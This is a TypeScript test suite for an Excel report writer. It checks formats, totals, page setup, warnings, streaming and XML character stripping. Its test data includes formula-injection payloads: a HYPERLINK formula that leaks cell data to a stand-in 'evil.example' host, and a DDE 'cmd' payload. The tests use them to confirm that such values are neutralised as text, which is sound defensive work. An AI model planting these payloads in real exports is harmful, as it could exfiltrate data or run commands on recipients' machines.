import assert from "node:assert/strict";
import { once } from "node:events";
import { Writable } from "node:stream";
import { describe, it } from "node:test";
import { inflateRawSync } from "node:zlib";
import ExcelJS from "exceljs";
import { isFormulaLike } from "../../../shared/kernel/csv.js";
import {
  CELL_FORMATS,
  writeExcelReport,
  type ExcelReport,
  type ReportColumn,
  type ReportRow,
} from "../../../shared/systems/reports/excel-report.js";

/** A Writable that keeps what it is given; `delayed` answers each write a macrotask later (a slow upload). */
function collector(options: { delayed?: boolean; highWaterMark?: number } = {}) {
  const chunks: Buffer[] = [];
  const stream = new Writable({
    highWaterMark: options.highWaterMark ?? 16 * 1024,
    write(chunk: Buffer, _encoding, callback) {
      chunks.push(chunk);
      if (options.delayed) setImmediate(callback);
      else callback();
    },
  });
  return { stream, buffer: () => Buffer.concat(chunks) };
}

/** One entry of a zip, read through its central directory (archiver writes data descriptors). */
function zipEntry(zip: Buffer, name: string): string {
  let end = zip.length - 22;
  while (end >= 0 && zip.readUInt32LE(end) !== 0x06054b50) end--;
  assert.ok(end >= 0, "no end of central directory");
  const entries = zip.readUInt16LE(end + 10);
  let at = zip.readUInt32LE(end + 16);
  for (let i = 0; i < entries; i++) {
    assert.equal(zip.readUInt32LE(at), 0x02014b50);
    const method = zip.readUInt16LE(at + 10);
    const compressedSize = zip.readUInt32LE(at + 20);
    const nameLength = zip.readUInt16LE(at + 28);
    const extraLength = zip.readUInt16LE(at + 30);
    const commentLength = zip.readUInt16LE(at + 32);
    const localHeader = zip.readUInt32LE(at + 42);
    const entryName = zip.toString("utf8", at + 46, at + 46 + nameLength);
    if (entryName === name) {
      const dataStart = localHeader + 30 + zip.readUInt16LE(localHeader + 26) + zip.readUInt16LE(localHeader + 28);
      const data = zip.subarray(dataStart, dataStart + compressedSize);
      return (method === 8 ? inflateRawSync(data) : data).toString("utf8");
    }
    at += 46 + nameLength + extraLength + commentLength;
  }
  throw new Error(`no ${name} in the zip`);
}

async function load(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
}

const FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2", "@SUM(A1)", "\tTAB", "\rCR"];
/** The full-width forms Excel also takes as a formula start (U+FF1D, U+FF0B, U+FF0D, U+FF20). */
const FULL_WIDTH_FORMULAS = ["＝1+1", "＋1", "－2", "＠SUM(A1)"];

const detailColumns: ReportColumn[] = [
  { key: "projectId", header: "Project", kind: "text", width: 14 },
  { key: "amount", header: "Amount", kind: "money" },
  { key: "billingDate", header: "Billing date", kind: "date" },
  { key: "quantity", header: "Quantity", kind: "number" },
  { key: "description", header: "Description", kind: "text", width: 40 },
  { key: "share", header: "Share", kind: "percent" },
  { key: "hours", header: "Hours", kind: "hours" },
];

const detailRows: ReportRow[] = [
  {
    projectId: "PRJ-000001",
    amount: "1234.50",
    billingDate: "2026-11-20",
    quantity: "3",
    description: "Plain text",
    share: "12.34",
    hours: "7.5",
  },
  {
    projectId: "PRJ-000002",
    amount: "-12.5",
    billingDate: "2026-02-28",
    quantity: "0.25",
    description: FORMULA_LIKE[0]!,
    share: "-5",
    hours: "0",
  },
  { projectId: "=1+1", amount: null, billingDate: null, quantity: null, description: null, share: null, hours: null },
  ...FORMULA_LIKE.slice(1).map((text, i) => ({
    projectId: `PRJ-10${i}`,
    amount: "0.01",
    billingDate: "2024-02-29",
    quantity: "1",
    description: text,
    share: "100",
    hours: "1.25",
  })),
];

async function* slowly<T>(items: readonly T[]): AsyncGenerator<T> {
  for (const item of items) {
    await new Promise((resolve) => setImmediate(resolve));
    yield item;
  }
}

function sampleReport(overrides: Partial<ExcelReport> = {}): ExcelReport {
  return {
    title: "Billing report",
    subtitle: ["2026-01-01 to 2026-11-30", "=cmd|' /C calc'!A0", "Created 2026-11-23T18:00:00Z"],
    summary: [
      { label: "Projects", value: "2", kind: "number" },
      { label: "Billed (EUR)", value: "1222.00", kind: "money" },
      { label: "Left out", value: "-PRJ-9", kind: "text" },
      { label: "@Adjustments", value: "0", kind: "money" },
    ],
    details: { name: "Details", columns: detailColumns, rows: slowly(detailRows) },
    chartData: {
      name: "Chart data",
      columns: [
        { key: "month", header: "Month", kind: "text" },
        { key: "amount", header: "Billed", kind: "money" },
      ],
      rows: [
        { month: "2026-10", amount: "100.00" },
        { month: "2026-11", amount: "1122.00" },
      ],
    },
    extra: [{ name: "Resources", columns: [{ key: "who", header: "Resource", kind: "text" }], rows: [{ who: "R-1" }] }],
    ...overrides,
  };
}

describe("excel report: isFormulaLike", () => {
  it("flags text a spreadsheet would read as a formula", () => {
    for (const text of FORMULA_LIKE) assert.equal(isFormulaLike(text), true, JSON.stringify(text));
    for (const text of FULL_WIDTH_FORMULAS) assert.equal(isFormulaLike(text), true, JSON.stringify(text));
    for (const text of ["1＝1", " ＝1", "Ｆ＝1", "\uff1e1"])
      assert.equal(isFormulaLike(text), false, JSON.stringify(text));
    for (const text of ["", "PRJ-1", " =1+1", "1-2", "a@b.c", "'=1"])
      assert.equal(isFormulaLike(text), false, JSON.stringify(text));
  });
});

describe("excel report: writeExcelReport", async () => {
  const output = collector();
  const progress: number[] = [];
  const result = await writeExcelReport(sampleReport(), output.stream, (n) => progress.push(n));
  const file = output.buffer();
  const workbook = await load(file);
  const details = workbook.getWorksheet("Details")!;
  const rowOf = (projectId: string) => {
    let found: ExcelJS.Row | undefined;
    details.eachRow((row) => {
      if (row.getCell(1).value === projectId) found = row;
    });
    assert.ok(found, `no row ${projectId}`);
    return found;
  };

  it("writes Summary, then details, chart data and the extra sheets, in that order", () => {
    assert.deepEqual(
      workbook.worksheets.map((w) => w.name),
      ["Summary", "Details", "Chart data", "Resources"],
    );
  });

  it("returns the data rows written, calls onProgress and ends the output", () => {
    assert.equal(result.rows, detailRows.length + 2 + 1);
    assert.ok(progress.length >= 1);
    assert.equal(progress.at(-1), result.rows);
    assert.equal(output.stream.writableFinished, true);
  });

  it("puts title, subtitle and figures on the Summary sheet", () => {
    const summary = workbook.getWorksheet("Summary")!;
    assert.equal(summary.getCell("A1").value, "Billing report");
    assert.equal(summary.getCell("A1").font?.bold, true);
    assert.equal(summary.getCell("A2").value, "2026-01-01 to 2026-11-30");
    assert.equal(summary.getCell("A3").value, "=cmd|' /C calc'!A0");
    assert.equal(summary.getCell("A3").type, ExcelJS.ValueType.String);
    assert.equal(summary.getCell("A6").value, "Projects");
    assert.equal(summary.getCell("B6").value, 2);
    assert.equal(summary.getCell("B7").value, 1222);
    assert.equal(summary.getCell("B7").numFmt, CELL_FORMATS.money);
    assert.equal(summary.getCell("B8").value, "-PRJ-9");
    assert.equal(summary.getCell("B8").type, ExcelJS.ValueType.String);
    assert.equal(summary.getCell("A9").value, "@Adjustments");
    assert.equal(summary.getCell("A9").font?.bold, true);
    assert.equal(summary.getCell("B9").value, 0);
  });

  it("writes a bold header row, frozen, with an auto-filter over the data, and column widths", () => {
    const header = details.getRow(1);
    assert.deepEqual(
      detailColumns.map((_, i) => header.getCell(i + 1).value),
      detailColumns.map((c) => c.header),
    );
    assert.equal(header.getCell(1).font?.bold, true);
    const view = details.views[0] as { state?: string; ySplit?: number; xSplit?: number };
    assert.equal(view.state, "frozen");
    assert.equal(view.ySplit, 1);
    assert.equal(details.autoFilter, `A1:G${detailRows.length + 1}`);
    assert.equal(workbook.getWorksheet("Chart data")!.autoFilter, "A1:B3");
    assert.equal((workbook.getWorksheet("Chart data")!.views[0] as { state?: string }).state, "frozen");
    assert.equal(details.getColumn(1).width, 14);
    assert.equal(details.getColumn(5).width, 40);
    assert.ok((details.getColumn(2).width ?? 0) >= 12);
  });

  it("writes every data row", () => {
    assert.equal(details.actualRowCount, detailRows.length + 1);
    assert.equal(workbook.getWorksheet("Chart data")!.actualRowCount, 3);
    assert.equal(workbook.getWorksheet("Resources")!.getCell("A2").value, "R-1");
  });

  it("writes money as numbers with the money format", () => {
    const amount = rowOf("PRJ-000001").getCell(2);
    assert.equal(amount.type, ExcelJS.ValueType.Number);
    assert.equal(amount.value, 1234.5);
    assert.equal(amount.numFmt, "#,##0.00");
    assert.equal(rowOf("PRJ-000002").getCell(2).value, -12.5);
  });

  it("writes dates as real dates", () => {
    const date = rowOf("PRJ-000001").getCell(3);
    assert.equal(date.type, ExcelJS.ValueType.Date);
    assert.ok(date.value instanceof Date);
    assert.equal(date.value.toISOString(), "2026-11-20T00:00:00.000Z");
    assert.equal(date.numFmt, CELL_FORMATS.date);
    assert.equal((rowOf("PRJ-100").getCell(3).value as Date).toISOString(), "2024-02-29T00:00:00.000Z");
  });

  it("writes numbers, percentages (as fractions) and hours with their formats", () => {
    const row = rowOf("PRJ-000001");
    assert.equal(row.getCell(4).value, 3);
    assert.equal(row.getCell(6).value, 0.1234);
    assert.equal(row.getCell(6).numFmt, CELL_FORMATS.percent);
    assert.equal(row.getCell(7).value, 7.5);
    assert.equal(row.getCell(7).numFmt, CELL_FORMATS.hours);
    assert.equal(rowOf("PRJ-000002").getCell(6).value, -0.05);
  });

  it("writes formula-like text as text, never as a formula, and keeps the visible value", () => {
    const cells = [
      rowOf("PRJ-000002").getCell(5),
      ...FORMULA_LIKE.slice(1).map((_, i) => rowOf(`PRJ-10${i}`).getCell(5)),
      details.getCell("A4"),
    ];
    // A CR reads back as LF: exceljs writes it as a literal CR, and XML readers (exceljs, Excel)
    // normalise line ends. Still text, and no longer formula-like.
    const expected = [FORMULA_LIKE[0], ...FORMULA_LIKE.slice(1).map((t) => t.replace("\r", "\n")), "=1+1"];
    assert.deepEqual(
      cells.map((c) => c.value),
      expected,
    );
    for (const cell of cells) {
      assert.equal(cell.type, ExcelJS.ValueType.String, `${cell.address} is ${cell.type}`);
      assert.equal(cell.formula, undefined);
      assert.equal(cell.numFmt, "@");
    }
    assert.equal(rowOf("PRJ-000001").getCell(5).numFmt, undefined);
  });

  it("has no <f> in the sheet XML and marks the formula-like cells' style quotePrefix", () => {
    for (const sheet of [1, 2, 3, 4]) assert.doesNotMatch(zipEntry(file, `xl/worksheets/sheet${sheet}.xml`), /<f[ >]/);
    const detailsXml = zipEntry(file, "xl/worksheets/sheet2.xml");
    const styleId = /<c r="E3" s="(\d+)" t="str">/.exec(detailsXml)?.[1];
    assert.ok(styleId, "E3 is a styled string cell");
    const xfs = [
      ...(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(zipEntry(file, "xl/styles.xml"))?.[1] ?? "").matchAll(/<xf [^>]*>/g),
    ].map((m) => m[0]);
    assert.match(xfs[Number(styleId)]!, /quotePrefix="1"/);
    assert.match(xfs[Number(styleId)]!, /numFmtId="49"/);
    assert.equal(
      xfs.filter((xf) => xf.includes("quotePrefix")).length,
      2,
      "plain and bold (header/label) quoted styles only",
    );
  });

  it("leaves null values as empty cells", () => {
    const row = rowOf("=1+1");
    for (let c = 2; c <= detailColumns.length; c++) {
      assert.equal(row.getCell(c).value, null);
      assert.equal(row.getCell(c).type, ExcelJS.ValueType.Null);
    }
  });
});

describe("excel report: totals and page setup", async () => {
  const output = collector();
  const columns: ReportColumn[] = [
    { key: "projectId", header: "Project", kind: "text" },
    { key: "currency", header: "Currency", kind: "text" },
    { key: "amount", header: "Amount", kind: "money", currencyKey: "currency" },
    { key: "hours", header: "Hours", kind: "hours" },
  ];
  await writeExcelReport(
    sampleReport({
      details: {
        name: "Details",
        columns,
        rows: slowly([
          { projectId: "PRJ-1", currency: "EUR", amount: "1000.10", hours: "1" },
          { projectId: "PRJ-2", currency: "USD", amount: "5.00", hours: "2" },
          { projectId: "PRJ-3", currency: "EUR", amount: "234.40", hours: "3" },
        ]),
        totals: [
          { projectId: "Total", currency: "EUR", amount: "1234.50", hours: null },
          { projectId: "Total", currency: "USD", amount: "5.00", hours: null },
        ],
      },
    }),
    output.stream,
  );
  const workbook = await load(output.buffer());
  const details = workbook.getWorksheet("Details")!;

  it("writes the totals rows in bold below the data and a blank row, one per currency", () => {
    assert.equal(details.getCell("A5").value, null, "a blank row");
    const totals = [6, 7].map((n) => details.getRow(n));
    assert.deepEqual(
      totals.map((row) => [row.getCell(1).value, row.getCell(2).value, row.getCell(3).value]),
      [
        ["Total", "EUR", 1234.5],
        ["Total", "USD", 5],
      ],
    );
    for (const row of totals) {
      assert.equal(row.getCell(1).font?.bold, true);
      assert.equal(row.getCell(3).font?.bold, true);
      assert.equal(row.getCell(3).numFmt, CELL_FORMATS.money);
      assert.equal(row.getCell(4).value, null);
    }
    assert.equal(details.getRow(8).getCell(1).value, null, "nothing after the totals");
  });

  it("keeps the totals out of the auto-filter (sorting the data never moves them)", () => {
    assert.equal(details.autoFilter, "A1:D4");
  });

  it("prints every sheet landscape, one page wide, with page numbers", () => {
    assert.equal(workbook.worksheets.length, 4);
    for (const sheet of workbook.worksheets) {
      assert.equal(sheet.pageSetup.orientation, "landscape", sheet.name);
      assert.equal(sheet.pageSetup.fitToPage, true, sheet.name);
      assert.equal(sheet.pageSetup.fitToWidth, 1, sheet.name);
      assert.equal(sheet.pageSetup.fitToHeight, 0, `${sheet.name}: as many pages tall as it takes`);
      assert.equal(sheet.headerFooter.oddFooter, "&L&A&RPage &P of &N", sheet.name);
    }
  });
});

describe("excel report: warnings", async () => {
  const output = collector();
  const warnings = ["Project PRJ-999999: not found in SAP", "=Project PRJ-1: currency unknown"];
  await writeExcelReport(sampleReport({ warnings }), output.stream);
  const workbook = await load(output.buffer());

  it("lists them on a Warnings sheet right after the Summary, formula-like text kept as text", () => {
    assert.deepEqual(
      workbook.worksheets.map((w) => w.name),
      ["Summary", "Warnings", "Details", "Chart data", "Resources"],
    );
    const sheet = workbook.getWorksheet("Warnings")!;
    assert.equal(sheet.getCell("A1").value, "Warning");
    assert.deepEqual([sheet.getCell("A2").value, sheet.getCell("A3").value], warnings);
    assert.equal(sheet.getCell("A3").numFmt, "@");
  });

  it("counts them on the Summary sheet, under the subtitle", () => {
    const summary = workbook.getWorksheet("Summary")!;
    assert.equal(summary.getCell("A5").value, "2 warnings: see the Warnings sheet");
    assert.equal(summary.getCell("A5").font?.bold, true);
    assert.equal(summary.getCell("A7").value, "Projects", "the figures follow after a blank line");
  });

  it("adds no sheet and no line when there are none", async () => {
    const none = collector();
    await writeExcelReport(sampleReport({ warnings: [] }), none.stream);
    const book = await load(none.buffer());
    assert.equal(book.getWorksheet("Warnings"), undefined);
    assert.equal(book.getWorksheet("Summary")!.getCell("A6").value, "Projects");
  });
});

describe("excel report: streaming and failures", () => {
  it("keeps going through a slow output (backpressure) and writes a complete file", async () => {
    const output = collector({ delayed: true, highWaterMark: 1024 });
    const rows = function* () {
      for (let i = 0; i < 20_000; i++)
        yield {
          id: `PRJ-${i}`,
          amount: `${i}.99`,
          date: "2026-01-31",
          n: String(i),
          text: `Row ${i} with some text to compress`,
        };
    };
    const progress: number[] = [];
    const result = await writeExcelReport(
      sampleReport({
        details: {
          name: "Details",
          columns: [
            { key: "id", header: "Project", kind: "text" },
            { key: "amount", header: "Amount", kind: "money" },
            { key: "date", header: "Date", kind: "date" },
            { key: "n", header: "N", kind: "number" },
            { key: "text", header: "Text", kind: "text" },
          ],
          rows: rows(),
        },
      }),
      output.stream,
      (n) => progress.push(n),
    );
    assert.equal(result.rows, 20_000 + 2 + 1);
    assert.deepEqual(progress, [10_000, 20_000, 20_003]);
    const details = (await load(output.buffer())).getWorksheet("Details")!;
    assert.equal(details.actualRowCount, 20_001);
    assert.equal(details.getCell("B20001").value, 19_999.99);
  });

  it("rejects a value that is not of its column's kind, and fails the output", async () => {
    const output = collector();
    const errored = once(output.stream, "error");
    await assert.rejects(
      writeExcelReport(
        sampleReport({
          details: { name: "Details", columns: detailColumns, rows: [{ projectId: "P", amount: "12,50" }] },
        }),
        output.stream,
      ),
      /sheet "Details" row 2 column "amount": "12,50" is not a decimal string \(money\)/,
    );
    assert.equal(output.stream.destroyed, true);
    assert.match(String((await errored)[0]), /12,50/);
    await assert.rejects(
      writeExcelReport(
        sampleReport({ details: { name: "Details", columns: detailColumns, rows: [{ billingDate: "2026-02-30" }] } }),
        collector().stream,
      ),
      /is not a date/,
    );
  });

  it("rejects when the row source fails", async () => {
    async function* failing(): AsyncGenerator<ReportRow> {
      yield { projectId: "P-1" };
      throw new Error("cursor lost");
    }
    const output = collector();
    await assert.rejects(
      writeExcelReport(
        sampleReport({ details: { name: "Details", columns: detailColumns, rows: failing() } }),
        output.stream,
      ),
      /cursor lost/,
    );
    assert.equal(output.stream.destroyed, true);
  });

  it("rejects when the output fails mid-way", async () => {
    let written = 0;
    const output = new Writable({
      write(chunk: Buffer, _encoding, callback) {
        written += chunk.length;
        callback(written > 64 * 1024 ? new Error("blob upload failed") : null);
      },
    });
    const rows = function* () {
      for (let i = 0; i < 200_000; i++) yield { projectId: `PRJ-${i}`, description: `Row ${i} ${Math.random()}` };
    };
    await assert.rejects(
      writeExcelReport(sampleReport({ details: { name: "Details", columns: detailColumns, rows: rows() } }), output),
      /blob upload failed/,
    );
  });

  it("refuses sheet names Excel would refuse, before writing anything", async () => {
    const output = collector();
    await assert.rejects(
      writeExcelReport(
        sampleReport({ chartData: { name: "details", columns: detailColumns, rows: [] } }),
        output.stream,
      ),
      /duplicate sheet name/,
    );
    await assert.rejects(
      writeExcelReport(
        sampleReport({ chartData: { name: "Chart: data", columns: detailColumns, rows: [] } }),
        output.stream,
      ),
      /invalid sheet name/,
    );
    await assert.rejects(
      writeExcelReport(
        sampleReport({ chartData: { name: "x".repeat(32), columns: detailColumns, rows: [] } }),
        output.stream,
      ),
      /invalid sheet name/,
    );
    await assert.rejects(
      writeExcelReport(
        sampleReport({ chartData: { name: "Chart\u0001data", columns: detailColumns, rows: [] } }),
        output.stream,
      ),
      /invalid sheet name/,
    );
    assert.equal(output.buffer().length, 0);
    assert.equal(output.stream.destroyed, false);
  });
});

describe("excel report: full-width formula characters", async () => {
  const output = collector();
  await writeExcelReport(
    sampleReport({
      subtitle: ["＝cmd|' /C calc'!A0"],
      details: {
        name: "Details",
        columns: detailColumns,
        rows: FULL_WIDTH_FORMULAS.map((text, i) => ({
          projectId: `PRJ-FW${i}`,
          amount: "1.00",
          billingDate: "2026-01-31",
          quantity: "1",
          description: text,
          share: "1",
          hours: "1",
        })),
      },
    }),
    output.stream,
  );
  const file = output.buffer();
  const workbook = await load(file);

  it("neutralises ＝ ＋ － ＠ at the start of a cell like their ASCII forms: Text format, quotePrefix, value kept", () => {
    const details = workbook.getWorksheet("Details")!;
    const xml = zipEntry(file, "xl/worksheets/sheet2.xml");
    const xfs = [
      ...(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(zipEntry(file, "xl/styles.xml"))?.[1] ?? "").matchAll(/<xf [^>]*>/g),
    ].map((m) => m[0]);
    FULL_WIDTH_FORMULAS.forEach((text, i) => {
      const cell = details.getCell(`E${i + 2}`);
      assert.equal(cell.value, text);
      assert.equal(cell.type, ExcelJS.ValueType.String);
      assert.equal(cell.numFmt, "@", text);
      const styleId = new RegExp(`<c r="E${i + 2}" s="(\\d+)" t="str">`).exec(xml)?.[1];
      assert.match(xfs[Number(styleId)]!, /quotePrefix="1"/, text);
    });
    const subtitle = workbook.getWorksheet("Summary")!.getCell("A2");
    assert.equal(subtitle.value, "＝cmd|' /C calc'!A0");
    assert.equal(subtitle.numFmt, "@");
    assert.equal(details.getCell("A2").numFmt, undefined, "ordinary text stays General");
  });
});

describe("excel report: characters XML 1.0 forbids, from stored data", async () => {
  // What a project name from SAP or an old row may hold; the edge refuses them, the writer strips them.
  const BAD = ["\ufffe", "\uffff", "\u0001", "\u0000", "\u001f", "\ud800"];
  /** Any character XML 1.0 forbids (a lone surrogate leaves the UTF-8 encoder as U+FFFD). */
  const FORBIDDEN = /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u;
  const rows: ReportRow[] = Array.from({ length: 60 }, (_, i) => ({
    projectId: `PRJ-${String(i + 1).padStart(3, "0")}`,
    amount: "1.00",
    billingDate: "2026-01-31",
    quantity: "1",
    description: i < BAD.length ? `Name${BAD[i]!}here` : i === 10 ? "\u0001=1+1" : `Row ${i + 1}`,
    share: "1",
    hours: "1",
  }));
  const output = collector();
  await writeExcelReport(
    sampleReport({
      title: "Billing\ufffe report\u0001",
      subtitle: ["Asked by ali\u0000ce"],
      summary: [{ label: "Projects\uffff", value: "Acme\u0002", kind: "text" }],
      details: {
        name: "Details",
        columns: detailColumns.map((c) => (c.key === "description" ? { ...c, header: "Descr\ufffeiption" } : c)),
        rows: slowly(rows),
      },
    }),
    output.stream,
  );
  const file = output.buffer();
  const workbook = await load(file);
  const details = workbook.getWorksheet("Details")!;

  it("writes sheet XML with none of them, so Excel and LibreOffice read every row", () => {
    for (const entry of ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "docProps/core.xml"])
      assert.doesNotMatch(zipEntry(file, entry), FORBIDDEN, entry);
  });

  it("reads back every row, with the bad characters gone and the rest of the text kept", () => {
    assert.equal(details.actualRowCount, rows.length + 1);
    assert.deepEqual(
      Array.from({ length: BAD.length }, (_, i) => details.getCell(`E${i + 2}`).value),
      BAD.map(() => "Namehere"),
    );
    assert.equal(details.getCell(`A${rows.length + 1}`).value, `PRJ-0${rows.length}`);
    assert.equal(details.getCell(`E${rows.length + 1}`).value, `Row ${rows.length}`);
    assert.equal(details.getCell("E1").value, "Description");
    const summary = workbook.getWorksheet("Summary")!;
    assert.equal(summary.getCell("A1").value, "Billing report");
    assert.equal(summary.getCell("A2").value, "Asked by alice");
    assert.equal(summary.getCell("A4").value, "Projects");
    assert.equal(summary.getCell("B4").value, "Acme");
    assert.equal(workbook.title, "Billing report");
  });

  it("neutralises a formula that stripping uncovers", () => {
    const cell = details.getCell("E12");
    assert.equal(cell.value, "=1+1");
    assert.equal(cell.type, ExcelJS.ValueType.String);
    assert.equal(cell.numFmt, "@");
  });
});
